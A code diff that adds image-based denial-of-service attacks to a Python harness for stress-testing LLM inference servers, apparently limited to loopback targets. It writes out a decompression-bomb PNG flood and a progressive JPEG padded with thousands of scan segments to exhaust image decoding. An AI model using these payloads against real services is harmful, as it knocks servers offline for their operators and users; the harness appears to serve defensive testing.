@@ -8,8 +8,10 @@ Every attack stops by itself, and its size can be scaled down. Only loopback add
 from __future__ import annotations
 
 import argparse
+import base64
 import contextlib
 import http.client
+import io
 import itertools
 import json
 import resource
@@ -20,6 +22,8 @@ from concurrent.futures import ThreadPoolExecutor
 from dataclasses import dataclass
 from typing import Any
 from urllib.parse import urlsplit
+
+from PIL import Image
 
 CHAT, COMPLETIONS = "/v1/chat/completions", "/v1/completions"
 RESPONSES = "/v1/responses"
@@ -280,6 +284,39 @@ def full_store(target: Target) -> list[int]:
     return at_once(target, 8, lambda _: respond(target, [sealed])[0])
 
 
+# ---- images
+
+
+def image_request(target: Target, files: list[bytes], kind: str) -> bytes:
+    """A request for one token about images."""
+    urls = [f"data:image/{kind};base64,{base64.b64encode(file).decode()}" for file in files]
+    parts = [{"type": "image_url", "image_url": {"url": url}} for url in urls]
+    return encoded(target, messages=[{"role": "user", "content": parts}], max_tokens=1)
+
+
+def image_file(side: int, mode: str, kind: str, **options: Any) -> bytes:
+    """A black square, whose file is small."""
+    file = io.BytesIO()
+    Image.new(mode, (side, side)).save(file, kind, **options)
+    return file.getvalue()
+
+
+def png_flood(target: Target) -> list[int]:
+    """64 clients with four images of 8191 x 8191 at one bit, in requests of 44 KB."""
+    body = image_request(target, [image_file(8191, "1", "PNG")] * 4, "png")
+    return at_once(target, target.times(64), lambda _: post(target, CHAT, body))
+
+
+def jpeg_scans(target: Target) -> list[int]:
+    """Eight clients with a JPEG of as many scans as are taken, and one of thousands."""
+    file = image_file(2048, "RGB", "JPEG", progressive=True)
+    scan = file[file.rindex(b"\xff\xda") : -2]
+    bodies = [image_request(target, [file[:-2] + n * scan + file[-2:]], "jpeg") for n in (90, 3000)]
+    return at_once(target, 8, lambda number: post(target, CHAT, bodies[number % 2]))
+
+
+IMAGE_ATTACKS = {"png_flood": png_flood, "jpeg_scans": jpeg_scans}
+"""For a model that takes images; others refuse them at once."""
 ATTACKS: dict[str, Callable[[Target], list[int]]] = {
     "bad_words": bad_words,
     "stops": stops,
@@ -295,6 +332,7 @@ ATTACKS: dict[str, Callable[[Target], list[int]]] = {
     "exclusive_grammars": exclusive_grammars,
     "chained_responses": chained_responses,
     "full_store": full_store,
+    **IMAGE_ATTACKS,
 }
 
 
